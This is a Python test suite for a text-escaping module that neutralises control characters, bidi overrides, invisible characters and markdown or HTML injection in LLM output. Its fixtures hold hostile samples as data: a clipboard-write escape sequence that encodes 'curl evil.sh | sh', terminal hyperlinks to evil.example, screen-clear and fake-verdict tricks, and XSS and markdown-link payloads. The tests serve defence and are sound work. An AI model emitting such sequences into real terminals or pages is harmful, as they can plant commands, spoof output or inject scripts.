"""runner.text: every control and format character a candidate or an LLM can send comes out as a visible escape."""
import html
import sys
import unicodedata

import pytest

from runner.text import INVISIBLE, escape_char, markdown_cell, one_line, printable

OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
SCREEN_CLEAR = "\x1b[2J\x1b[H"
FAKE_VERDICT = "RuntimeError: boom\rkeep 0.1234"
HYPERLINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
C1_CSI = "\x9b2J"
BIDI = "\u202eevil\u202c \u2066x\u2069 \u2067y\u2068z\u2069"


def raw_controls(s: str) -> list[str]:
    """Characters a terminal or a text renderer may act on (none may survive), besides the kept \\n and \\t."""
    return [c for c in s if (not c.isprintable() or c in INVISIBLE) and c not in "\n\t"]


def test_a_clipboard_write_is_shown_not_run():
    out = one_line("crash " + OSC52_CLIPBOARD)
    assert out == "crash \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
    assert not raw_controls(out)


def test_a_screen_clear_and_a_hyperlink_are_shown_not_run():
    out = one_line(SCREEN_CLEAR + HYPERLINK)
    assert "\x1b" not in out and out.startswith("\\x1b[2J\\x1b[H\\x1b]8;;https://evil.example/\\x1b\\click")


def test_a_carriage_return_cannot_overwrite_the_line_with_a_fake_verdict():
    assert one_line(FAKE_VERDICT) == "RuntimeError: boom\\rkeep 0.1234"
    assert printable(FAKE_VERDICT) == "RuntimeError: boom\\rkeep 0.1234"  # a lone CR is not a line end


def test_crlf_is_a_line_end_in_multi_line_text():
    assert printable("a\r\nb\n") == "a\nb\n"


def test_bells_backspaces_and_every_c0_and_c1_control_are_escaped():
    controls = "".join(map(chr, [*range(0x00, 0x20), 0x7f, *range(0x80, 0xa0)]))
    out = one_line(controls)
    assert not raw_controls(out) and "\n" not in out and "\t" not in out
    assert out.startswith("\\x00\\x01") and "\\x07\\x08\\t\\n" in out and "\\x1b" in out
    assert out.endswith("\\x9b\\x9c\\x9d\\x9e\\x9f") and "\\x7f" in out
    assert one_line("10%\b\b\b99%") == "10%\\x08\\x08\\x0899%"


def test_c1_csi_is_escaped():
    assert one_line(C1_CSI) == "\\x9b2J"


def test_bidi_overrides_and_isolates_cannot_reorder_text():
    out = one_line(BIDI)
    assert out == "\\u202eevil\\u202c \\u2066x\\u2069 \\u2067y\\u2068z\\u2069"
    for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c":
        assert one_line(c) == f"\\u{ord(c):04x}"


def test_hidden_text_characters_are_escaped():
    """Zero-width, soft hyphen, word joiner, BOM, tag characters, separators, odd spaces, Hangul fillers."""
    for c in ["\u200b", "\u200c", "\u200d", "\u00ad", "\u2060", "\ufeff", "\U000e0041", "\u2028", "\u2029",
              "\u00a0", "\u3000", *INVISIBLE]:
        out = one_line(f"a{c}b")
        assert not raw_controls(out) and out == f"a{escape_char(c)}b", (c, out)
    assert escape_char("\U000e0041") == "\\U000e0041"


def test_every_format_and_control_character_of_unicode_is_escaped():
    cats = ("Cc", "Cf", "Zl", "Zp")
    every = "".join(chr(n) for n in range(sys.maxunicode + 1)
                    if unicodedata.category(chr(n)) in cats and not 0xd800 <= n < 0xe000)
    assert len(every) > 150
    assert not raw_controls(one_line(every)) and not raw_controls(printable(every))
    assert "\n" not in one_line(every)


def test_a_lone_surrogate_is_escaped_so_printing_cannot_fail():
    out = one_line("bad \udcff byte")
    assert out == "bad \\udcff byte"
    out.encode("utf-8")


def test_multi_line_text_keeps_lines_and_tabs_only():
    text = "step=1 loss=3.0\n\tTraceback\x1b[31m\n\u202eend"
    assert printable(text) == "step=1 loss=3.0\n\tTraceback\\x1b[31m\n\\u202eend"
    assert one_line(text).count("\n") == 0 and one_line(text).startswith("step=1 loss=3.0\\n\\tTraceback")


def test_ordinary_text_is_unchanged():
    for s in ["lr 0.04 -> 0.05 (warmup_ratio 0.1)", "ReLU² · naïve — 学習率 ↑ 😀", "", "back\\slash"]:
        assert one_line(s) == s and printable(s) == s and markdown_cell(s) == s.replace("\\", "\\\\")


def test_one_line_cuts_after_escaping():
    assert one_line("\x1b" * 10, limit=6) == "\\x1b\\x"
    assert not raw_controls(one_line("a\x1b" * 50, limit=7))


def test_rich_markup_and_html_are_left_as_text_for_their_own_escaping():
    """runner.text does not interpret markup: rich gets a Text object, HTML gets html.escape on top."""
    s = "[bold red]keep[/] [link=https://evil.example]x[/link] <script>alert(1)</script>\x1b]52;c;AA==\x07"
    out = one_line(s)
    assert out.startswith("[bold red]keep[/] [link=https://evil.example]x[/link] <script>")
    assert "<" not in html.escape(out) and "\x1b" not in html.escape(out)


@pytest.mark.parametrize("attack, shown", [
    ("[x](https://evil.example)", "\\[x\\](https://evil.example)"),
    ("![t](https://evil.example/t.png)", "!\\[t\\](https://evil.example/t.png)"),
    ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
    ("&#x202e;gnp.exe", "\\&#x202e;gnp.exe"),
    ("a | b", "a \\| b"),
    ("`code`", "\\`code\\`"),
    ("\\[not a link", "\\\\\\[not a link"),
    ("crash\x1b[2J\u202e", "crash\\\\x1b\\[2J\\\\u202e"),
])
def test_a_markdown_cell_cannot_link_embed_or_break_the_table(attack, shown):
    assert markdown_cell(attack) == shown
